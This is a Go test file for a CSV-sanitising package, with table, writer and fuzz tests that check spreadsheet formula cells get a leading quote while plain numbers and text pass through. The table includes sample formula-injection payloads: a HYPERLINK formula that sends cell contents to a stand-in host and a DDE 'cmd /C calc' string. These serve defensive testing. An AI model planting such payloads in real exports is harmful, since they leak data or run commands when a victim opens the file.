package csvsafe_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/sightline-dev/sightline/internal/csvsafe"
)

func TestCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`},
		{"=1+1", "'=1+1"},
		{"+1+1", "'+1+1"},
		{"-1+1", "'-1+1"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"  =1+1", "'  =1+1"},
		{"-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"},
		{"-", "'-"},
		{"+", "'+"},
		{"-1e3", "'-1e3"},
		{"-.5", "'-.5"},
		{"-1.", "'-1."},
		// Plain numbers stay numbers.
		{"-12", "-12"},
		{"+3", "+3"},
		{"-3.25", "-3.25"},
		{"42", "42"},
		// Ordinary text is untouched.
		{"", ""},
		{"alice", "alice"},
		{"left the team", "left the team"},
		{"a=b", "a=b"},
		{"file:///srv/hr/people.csv", "file:///srv/hr/people.csv"},
		{"'quoted", "'quoted"},
	}
	for _, tc := range tests {
		t.Run(tc.in, func(t *testing.T) {
			require.Equal(t, tc.want, csvsafe.Cell(tc.in))
		})
	}
}

func TestWriter(t *testing.T) {
	var b bytes.Buffer
	w := csvsafe.NewWriter(&b)
	require.NoError(t, w.Write([]string{"campaign", "comment", "count"}))
	require.NoError(t, w.Write([]string{"q4", `=HYPERLINK("http://x","y")`, "-3"}))
	require.NoError(t, w.Flush())
	require.Equal(t, "campaign,comment,count\nq4,\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\",-3\n", b.String())
}

// dangerous says whether a spreadsheet could take the cell as a formula.
func dangerous(s string) bool {
	t := strings.TrimLeft(s, " ")
	return t != "" && strings.ContainsRune("=+-@\t\r", rune(t[0]))
}

func FuzzCell(f *testing.F) {
	for _, s := range []string{"=1+1", "-12", "+3.5", "@x", "\t", "\r\n=1", "  -1", "a,b", "'=x", "-1.2.3", "", "=HYPERLINK(\"a\")"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := csvsafe.Cell(s)
		if got != s {
			// The only change is a quote in front, and only for a
			// dangerous cell.
			require.Equal(t, "'"+s, got)
			require.True(t, dangerous(s), "quoted a harmless cell %q", s)
		} else if dangerous(s) {
			// Left as is although it starts like a formula: only a plain
			// number may.
			n := strings.TrimLeft(s, " ")
			require.NotContains(t, []byte{'=', '@', '\t', '\r'}, n[0], "%q left live", s)
			require.Regexp(t, `^[+-][0-9]+(\.[0-9]+)?$`, n)
		}
		// And it survives CSV as the neutralised cell.
		var b bytes.Buffer
		w := csvsafe.NewWriter(&b)
		require.NoError(t, w.Write([]string{s, "x"}))
		require.NoError(t, w.Flush())
		rows, err := csv.NewReader(&b).ReadAll()
		require.NoError(t, err)
		require.Len(t, rows, 1)
		want := strings.ReplaceAll(got, "\r\n", "\n") // encoding/csv reads \r\n in a quoted field as \n
		require.Equal(t, []string{want, "x"}, rows[0])
	})
}
